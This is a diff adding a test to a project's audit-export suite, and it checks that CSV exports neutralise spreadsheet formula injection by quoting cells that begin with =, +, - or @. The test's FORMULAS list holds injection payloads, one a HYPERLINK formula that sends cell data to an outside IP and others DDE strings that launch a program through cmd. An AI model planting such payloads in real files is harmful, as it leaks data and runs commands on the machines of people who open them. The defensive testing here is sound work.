@@ -19,10 +19,13 @@ from tests.api.test_gateway import device
 from tests.api.test_usage import REPORTS, peer, report, serving_gateway
 from tests.conftest import both_stores
 from tests.support.world import World
+from tongdao import spreadsheet
+from tongdao.audit.chain import field_digest
 from tongdao.audit.models import AUDIT_EVENTS, AuditEvent, OpenConnection
 from tongdao.audit.sessions import close_stale
 from tongdao.compliance.rules import VERSION
 from tongdao.runtime import Runtime
+from tongdao.spreadsheet import unescape
 from tongdao.testing.keys import public_key
 
 EXPORT = "/api/v1/audit/export"
@@ -242,3 +245,57 @@ def test_bad_export_queries_are_field_keyed_422(
     resp = world.client.get(EXPORT, params=params, headers=world.operators["auditor"].headers)
     assert resp.status_code == 422, resp.text
     assert field in resp.json()["error"]["fields"], resp.text
+
+
+# --- CSV cells a spreadsheet would run (issue 10) -----------------------------------------------
+FORMULAS = (
+    '=HYPERLINK("http://198.51.100.66/?d="&A1,"open")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+)
+
+
+def fail_logins(world: World) -> None:
+    for email in FORMULAS:
+        resp = world.client.post(
+            "/api/v1/auth/login", json={"email": email, "password": "not the password"}
+        )
+        assert resp.status_code == 401, resp.text
+
+
+def test_csv_cells_a_spreadsheet_would_run_start_with_a_quote(world: World) -> None:
+    connect(world)
+    fail_logins(world)
+    auditor = world.operators["auditor"].headers
+    manifest, files = unzip(world.client.get(EXPORT, params={"format": "csv"}, headers=auditor))
+    table = list(csv.DictReader(io.StringIO(files["records.csv"].decode())))
+    _m, jfiles = unzip(world.client.get(EXPORT, params={"format": "jsonl"}, headers=auditor))
+    stored = {row["id"]: row for row in jsonl(jfiles) if row["id"] is not None}
+    failed = [r for r in table if r["action"] == "login_failed"]
+    assert len(failed) == len(FORMULAS)
+    for row in failed:
+        original = stored[int(row["id"])]["actor"]  # JSON Lines stay verbatim
+        assert original[0] in "=+-@"
+        assert row["actor"] == "'" + original
+        assert unescape(row["actor"]) == original
+        # The cell's text is still the one the record's digest was taken of.
+        salts, digests = json.loads(row["pi_salts"]), json.loads(row["pi_digests"])
+        assert field_digest(salts["actor"], "actor", unescape(row["actor"])) == digests["actor"]
+    # No cell of the file starts a formula; numbers stay numbers.
+    for row in table:
+        for name, cell in row.items():
+            assert not cell or cell[0] not in "=+-@\t\r", (name, cell)
+        assert all(row[c].isdigit() for c in ("id", "seq") if row[c]), row
+    session = next(r for r in table if r["action"] == "connection_open")
+    assert (session["rx_bytes"], session["source_port"]) == ("105", "51820")
+    assert manifest["csv_escaping"] == spreadsheet.RULE
+    assert "OWASP" in manifest["csv_escaping"]["rule"]
+    assert "csv_escaping" not in _m
+    # The export's own audit record carries the hash of the file as written (escaped).
+    exported = world.client.get(
+        "/api/v1/audit/events", params={"kind": "export"}, headers=auditor
+    ).json()["data"]
+    assert hashlib.sha256(files["records.csv"]).hexdigest() in {
+        e["after"]["files"][0]["sha256"] for e in exported
+    }
